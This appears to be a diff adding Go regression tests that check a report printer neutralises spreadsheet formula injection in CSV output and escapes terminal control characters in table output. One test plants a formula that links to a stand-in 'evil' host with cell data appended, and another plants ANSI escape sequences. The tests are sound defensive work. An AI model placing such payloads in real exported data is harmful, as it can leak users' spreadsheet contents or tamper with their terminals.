@@ -5,6 +5,7 @@ import (
 	"context"
 	"database/sql"
 	"errors"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -366,5 +367,43 @@ func TestPrintSpanish(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// A cell a spreadsheet would evaluate is written as text (issue 10, case 5).
+func TestPrintCSVNeutralisesFormulas(t *testing.T) {
+	db := fixtureDB(t)
+	for _, table := range []string{"deal", "tech_check_compliance"} {
+		col := "name"
+		if table == "tech_check_compliance" {
+			col = "deal_name"
+		}
+		q := fmt.Sprintf(`UPDATE %s SET %s = '=HYPERLINK("http://evil/?"&A1,"x")' WHERE deal_id = 'D13'`, table, col)
+		if _, err := db.Exec(q); err != nil {
+			t.Fatalf("%s: %v", q, err)
+		}
+	}
+	var b bytes.Buffer
+	if err := Print(context.Background(), db, "tech-checks", "csv", nil, &b); err != nil {
+		t.Fatal(err)
+	}
+	want := `D13,"'=HYPERLINK(""http://evil/?""&A1,""x"")",U-BEN,`
+	if !strings.Contains(b.String(), want) {
+		t.Errorf("report lacks %s:\n%s", want, b.String())
+	}
+}
+
+// A table printed for a terminal cannot carry a source's control characters.
+func TestPrintTableEscapesControlCharacters(t *testing.T) {
+	db := fixtureDB(t)
+	if _, err := db.Exec("UPDATE tech_check_compliance SET deal_name = 'Evil\x1b[2J\nname' WHERE deal_id = 'D13'"); err != nil {
+		t.Fatal(err)
+	}
+	var b bytes.Buffer
+	if err := Print(context.Background(), db, "tech-checks", "table", nil, &b); err != nil {
+		t.Fatal(err)
+	}
+	if strings.ContainsRune(b.String(), 0x1b) || !strings.Contains(b.String(), `Evil\x1b[2J\nname`) {
+		t.Errorf("the deal name is not escaped:\n%s", b.String())
 	}
 }
